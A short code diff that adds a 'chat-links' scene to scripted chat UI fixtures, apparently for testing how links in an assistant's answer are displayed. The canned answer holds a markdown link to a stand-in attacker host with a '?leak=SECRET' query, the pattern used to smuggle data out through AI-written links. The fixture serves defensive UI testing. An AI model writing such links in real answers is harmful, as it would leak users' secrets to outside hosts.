@@ -9,6 +9,18 @@ const refused: Failure = { code: "MODEL_MISSING", message: "There is no model.",
 
 /** States of the conversation and the composer. */
 export const chatScenes: Readonly<Record<string, (bridge: ScriptedBridge) => void>> = {
+  "chat-links": (bridge) =>
+    bridge.chat.setState({
+      title: "Weather",
+      messages: [
+        question("q1", "Where do I find the weather?"),
+        answer(
+          "a1",
+          "q1",
+          "See [the weather](https://evil.example/?leak=SECRET), or the docs at https://example.org/docs",
+        ),
+      ],
+    }),
   "chat-states": (bridge) => show(bridge, everyState()),
   "chat-tools": (bridge) =>
     show(bridge, [question("q1", "What did we say about the boat?"), withTools("a1", "q1")]),
